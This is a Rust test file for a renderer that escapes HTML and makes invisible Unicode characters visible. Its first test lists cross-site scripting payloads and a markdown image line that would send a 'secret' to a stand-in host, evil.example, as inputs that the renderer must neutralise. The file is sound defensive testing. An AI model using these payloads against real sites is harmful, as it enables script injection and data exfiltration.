//! Hostile text stays text.

use super::*;

fn shown(raw: &str) -> String {
    Ink::new().text(raw).to_string()
}

fn mark(inside: &str) -> String {
    format!("<span class=\"mark\">⟦{inside}⟧</span>")
}

#[test]
fn markup_is_shown_not_obeyed() {
    for raw in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "'onmouseover='alert(1)",
        "{{ 7*7 }} {% raw %}",
        "![x](https://evil.example/?q=secret)",
        "javascript:alert(1)",
    ] {
        let html = shown(raw);
        for forbidden in ["<script", "<img", "<svg", "<a ", "href", "'on", "\"on"] {
            let harmless = raw.contains(forbidden) && !forbidden.starts_with(['<', '\'', '"']);
            assert!(harmless || !html.contains(forbidden), "{raw} -> {html}");
        }
    }
    assert_eq!(shown("<b>&\"'"), "&#60;b&#62;&#38;&#34;&#39;");
}

#[test]
fn the_unseen_is_spelled_out() {
    for (raw, html) in [
        ("a\u{202e}b", format!("a{}b", mark("U+202E"))),
        ("a\u{200b}\u{200b}\u{200b}b", format!("a{}b", mark("U+200B ×3"))),
        ("\u{1b}[31mred", format!("{}[31mred", mark("U+001B"))),
        ("\0", mark("U+0000")),
        ("a\u{7}", format!("a{}", mark("U+0007"))),
        ("a\rb", format!("a{}b", mark("U+000D"))),
        ("\u{feff}x", format!("{}x", mark("U+FEFF"))),
        ("\u{e0041}\u{e0042}", format!("{}{}", mark("U+E0041"), mark("U+E0042"))),
        ("soft\u{ad}hyphen", format!("soft{}hyphen", mark("U+00AD"))),
        ("\u{2066}x\u{2069}", format!("{}x{}", mark("U+2066"), mark("U+2069"))),
        ("\u{85}", mark("U+0085")),
    ] {
        assert_eq!(shown(raw), html, "{raw:?}");
    }
}

#[test]
fn what_can_be_seen_stays() {
    for raw in [
        "one\ntwo\tthree",
        "もう死にたい。　全角の空白",
        "葛\u{e0100}城",
        "👩\u{200d}👧 ❤\u{fe0f} 1\u{fe0f}\u{20e3}",
        "café e\u{301} naïve",
        "שלום עולם",
        "⟦U+202E⟧ typed by hand",
    ] {
        assert_eq!(shown(raw), raw, "{raw:?}");
    }
    assert_eq!(shown("one\r\ntwo"), "one\ntwo");
}

#[test]
fn joiners_out_of_place_are_spelled_out() {
    assert_eq!(shown("a\u{200d}b"), format!("a{}b", mark("U+200D")));
    assert_eq!(shown("a\u{fe0f}b"), format!("a{}b", mark("U+FE0F")));
    assert_eq!(shown("a\u{e0100}b"), format!("a{}b", mark("U+E0100")));
}

#[test]
fn stacked_accents_do_not_paint_over_their_neighbours() {
    let stacked = format!("a{}b", "\u{301}".repeat(50));
    let html = shown(&stacked);
    assert_eq!(html.matches('\u{301}').count(), ACCENTS_MAX);
    assert!(html.contains("U+0301 ×46"), "{html}");
}

#[test]
fn long_texts_end_with_a_word_about_it() {
    let whole = "x".repeat(TEXT_MAX);
    assert_eq!(shown(&whole), whole);
    let html = shown(&"x".repeat(TEXT_MAX + 1_234));
    assert!(html.contains("1234 more characters"), "{}", &html[TEXT_MAX..]);
    assert!(html.starts_with(&whole));
}

#[test]
fn marks_cost_what_they_take_up() {
    let nasty = "\u{202e}\u{202d}".repeat(100_000);
    let html = shown(&nasty);
    assert!(html.len() < 8 * TEXT_MAX, "{} bytes", html.len());
}

#[test]
fn a_page_runs_out_of_ink() {
    let mut ink = Ink::new();
    let text = "y".repeat(TEXT_MAX);
    let pages = Ink::PAGE / TEXT_MAX;
    for _ in 0..pages {
        assert_eq!(ink.text(&text).left_out, 0);
    }
    let dry = ink.text("one more");
    assert_eq!((dry.left_out, dry.is_empty()), (8, false));
}

#[test]
fn tall_and_long_texts_get_a_frame() {
    assert!(!Ink::new().text("short").is_long());
    assert!(Ink::new().text(&"\n".repeat(50)).is_long());
    assert!(Ink::new().text(&"z".repeat(4_000)).is_long());
}

#[test]
fn labels_are_short() {
    let label = Text::short(&"m".repeat(500));
    assert_eq!(label.left_out, 300);
}
